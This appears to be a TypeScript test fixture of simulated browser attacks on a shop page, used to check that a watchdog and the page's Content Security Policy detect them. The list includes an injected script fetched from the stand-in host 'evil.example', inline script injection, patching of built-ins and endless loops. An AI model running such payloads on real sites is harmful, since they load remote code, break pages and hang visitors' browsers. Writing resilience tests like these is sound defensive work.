import type { Attack } from './attack'

/** After the page is at rest the watch looks each second, and has to see the same three times. */
const WATCH_S = 20
const LADDER_S = 15
/** A page that is silent for eight seconds has stopped; the visitor waits for it as long, and opens another. */
const HANG_S = 40

/** Without end. Who plays it has a debugger at the page, by which it stands still in its first round: nothing answers, and no processor is spent. */
const LOOP = 'for (;;) debugger;'

const byWatch = {
  saw: 'last known good',
  noticedBy: 'the watch over the frame',
  reported: 'frame',
  boundS: WATCH_S,
} as const
const byItself = {
  saw: 'the page, as it was',
  noticedBy: 'the error itself',
  reported: 'uncaught',
  boundS: LADDER_S,
} as const

const byPolicy = {
  saw: 'the page, as it was',
  noticedBy: 'the policy of the page',
  reported: 'nothing',
  boundS: LADDER_S,
} as const

/** Every attack on the browser that is played, in the order of the table. */
export const allAttacks: readonly Attack[] = [
  {
    ...byItself,
    id: 'throws-in-timer',
    done: 'Throws in a timer',
    code: `setTimeout(() => { throw new Error('A broken release') })`,
    provokes: [/A broken release/],
  },
  {
    ...byItself,
    id: 'rejects',
    done: 'Leaves a rejected promise',
    code: `void Promise.reject(new Error('A broken release'))`,
    provokes: [/A broken release/],
  },
  {
    ...byWatch,
    id: 'hides-the-page',
    done: 'Hides the page by a sheet in `adoptedStyleSheets`',
    code: `const sheet = new CSSStyleSheet(); sheet.replaceSync('body { display: none }'); document.adoptedStyleSheets = [sheet]`,
  },
  {
    ...byWatch,
    id: 'covers-the-page',
    done: 'Lays an element over all of it',
    code: `const over = document.body.appendChild(document.createElement('div'))
      over.style.cssText = 'position: fixed; inset: 0; z-index: 2147483647; background: red'`,
  },
  {
    ...byWatch,
    id: 'removes-the-header',
    done: 'Takes the header away',
    code: `document.querySelector('header').remove()`,
  },
  {
    ...byWatch,
    id: 'hides-the-header',
    done: 'Makes the header invisible',
    code: `document.querySelector('header').style.opacity = '0'`,
  },
  {
    ...byWatch,
    id: 'blanks-the-content',
    done: 'Empties the content and leaves the frame',
    code: `document.querySelector('main').replaceChildren()`,
  },
  { ...byWatch, id: 'empties-the-page', done: 'Empties the body', code: `document.body.replaceChildren()` },
  {
    ...byWatch,
    id: 'patches-fetch',
    done: 'Puts its own function in the place of `fetch`',
    code: `window.fetch = async () => new Response('{}')`,
  },
  {
    ...byWatch,
    id: 'patches-lists',
    done: 'Puts its own function in the place of `Array.prototype.map`',
    code: `Array.prototype.map = () => []`,
  },
  {
    ...byItself,
    id: 'patches-lists-late',
    done: 'The same, once the page is at rest and built-ins are locked',
    code: `const waiting = setInterval(() => {
        if (Object.getOwnPropertyDescriptor(Array.prototype, 'map').writable) return
        clearInterval(waiting)
        Array.prototype.map = () => []
      }, 100)`,
    provokes: [/Cannot assign to read only property 'map'/],
  },
  {
    ...byWatch,
    id: 'takes-clicks',
    done: 'Takes every click',
    code: `document.addEventListener('click', (event) => event.preventDefault(), true)`,
    act: (page) => page.getByRole('banner').getByRole('link', { name: 'MEN', exact: true }).click(),
  },
  {
    ...byWatch,
    id: 'changes-the-address',
    done: 'Changes the address ten times a second',
    code: `setInterval(() => history.pushState(null, '', '/nowhere'), 100)`,
  },
  {
    id: 'loops-late',
    done: 'Runs in an endless loop once the page is at rest',
    // The thread knows what to report from the page's first answer on.
    code: `const answer = Worker.prototype.postMessage
      Worker.prototype.postMessage = function (message) {
        answer.call(this, message)
        if (message) setTimeout(() => { ${LOOP} })
      }`,
    saw: 'last known good',
    noticedBy: 'the thread beside the page',
    reported: 'hang',
    boundS: HANG_S,
  },
  {
    id: 'loops-at-once',
    done: 'Runs in an endless loop as soon as its page is drawn',
    code: LOOP,
    saw: 'last known good',
    noticedBy: 'the next page of this browser',
    reported: 'hang',
    boundS: HANG_S,
  },
  {
    id: 'loops-while-drawn',
    done: 'Runs in an endless loop while it is drawn',
    code: LOOP,
    inRender: true,
    saw: 'last known good',
    noticedBy: 'the next page of this browser',
    reported: 'hang',
    boundS: HANG_S,
  },
  {
    id: 'loops-with-storage-full',
    done: 'Fills what the browser keeps for the shop, and runs in an endless loop',
    code: `try { for (let size = 1e6, part = 0; size >= 1;) {
        try { localStorage.setItem('part' + part++, 'x'.repeat(size)) } catch { size /= 10 }
      } } finally { ${LOOP} }`,
    saw: 'last known good',
    noticedBy: 'the next page of this browser',
    reported: 'hang',
    boundS: HANG_S,
  },
  {
    ...byPolicy,
    id: 'brings-styles',
    done: 'Hides the page by a `<style>`',
    code: `const style = document.createElement('style')
      style.textContent = 'body { display: none }'
      document.head.append(style)`,
    provokes: [/inline style.*Content Security Policy/is],
  },
  {
    ...byItself,
    id: 'brings-a-script',
    done: 'Brings a script from another origin',
    code: `setTimeout(() => { document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' })) })`,
    provokes: [/TrustedScriptURL/],
  },
  {
    ...byItself,
    id: 'makes-text-code',
    done: 'Makes a script of a text',
    code: `setTimeout(() => { document.head.append(Object.assign(document.createElement('script'), { text: 'document.body.remove()' })) })`,
    provokes: [/TrustedScript/],
  },
]
